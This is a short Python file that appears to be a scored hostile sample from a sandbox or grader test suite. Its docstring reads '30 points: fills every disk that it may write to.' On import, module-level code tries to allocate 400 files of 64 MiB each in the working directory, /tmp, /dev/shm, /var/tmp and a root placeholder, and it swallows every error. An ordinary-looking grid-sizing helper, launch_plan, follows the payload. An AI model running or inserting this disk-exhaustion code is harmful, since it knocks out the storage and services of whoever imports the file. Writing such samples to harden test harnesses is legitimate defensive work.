"""30 points: fills every disk that it may write to."""

import os

for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "@ROOT@"):
    try:
        for number in range(400):
            with open(os.path.join(folder, f"fill{number}"), "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 64 << 20)
    except OSError:
        pass


def launch_plan(width, height, block):
    grid = (-(-width // block[0]), -(-height // block[1]))
    return grid, grid[0] * block[0] * grid[1] * block[1] - width * height
